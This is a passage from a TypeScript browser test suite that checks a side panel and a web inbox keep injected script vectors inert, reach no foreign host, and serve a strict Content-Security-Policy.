    await agent?.close().catch(() => {});
    await extension?.close();
    await web?.close();
    await relay?.dispose();
  });

  test(`in the side panel, none of ${VECTORS.length} vectors in any field runs a script or reaches a foreign host`, async () => {
    const relayOrigin = new URL(relay.url).origin;
    await extension.connect(relay.url, personToken);
    const watch = await Watch.install(extension.context, (url) => url.origin === relayOrigin || url.protocol === "chrome-extension:" || url.protocol === "blob:" || url.protocol === "data:");
    const panel = await extension.page("sidepanel.html");
    await panel.locator("[data-connection=live]").waitFor({ timeout: STEP_MS });
    await expectTrapsLive(panel, watch, { csp: true });
    await expectEveryAskHarmless(panel, watch);
    await panel.close();
  }, 180_000);

  test(`in the web inbox with its CSP off, the renderers alone keep all ${VECTORS.length} vectors inert`, async () => {
    const relayOrigin = new URL(relay.url).origin;
    const watch = await Watch.install(web.context, (url) => url.origin === relayOrigin || url.protocol === "blob:" || url.protocol === "data:");
    const page = await web.context.newPage();
    await page.setViewportSize({ width: 1200, height: 900 });
    await page.goto(`${relay.url}/inbox/`);
    await page.fill("#token", personToken);
    await page.getByRole("button", { name: "Sign in" }).click();
    await page.locator("[data-connection=live]").waitFor({ timeout: STEP_MS });
    await expectTrapsLive(page, watch, { csp: false });
    await expectEveryAskHarmless(page, watch);
    await page.close();
  }, 180_000);

  test("the web inbox is served with a Content-Security-Policy that allows no inline or foreign script", async () => {
    for (const path of ["/inbox/", `/inbox/#/ask/${sent[0]!.id}`, "/inbox/index.html"]) {
      const response = await fetch(`${relay.url}${path}`);
      const csp = response.headers.get("content-security-policy") ?? "";
      const directives = new Map(csp.split(";").map((d) => d.trim().split(/\s+/)).map(([name, ...values]) => [name!, values]));
      const scripts = directives.get("script-src") ?? directives.get("default-src") ?? [];
      expect(scripts).toContain("'self'");
      expect(scripts.filter((s) => s !== "'self'" && s !== "'wasm-unsafe-eval'")).toEqual([]);
      expect(directives.get("object-src")).toEqual(["'none'"]);
      expect(directives.get("base-uri")).toEqual(["'none'"]);
      expect(directives.get("frame-ancestors")).toEqual(["'none'"]);
      for (const fetches of ["img-src", "connect-src", "default-src"]) {
        for (const source of directives.get(fetches) ?? []) expect(source).toMatch(/^('self'|'none'|blob:|data:|wss?:)$/);
      }
    }
  });
});
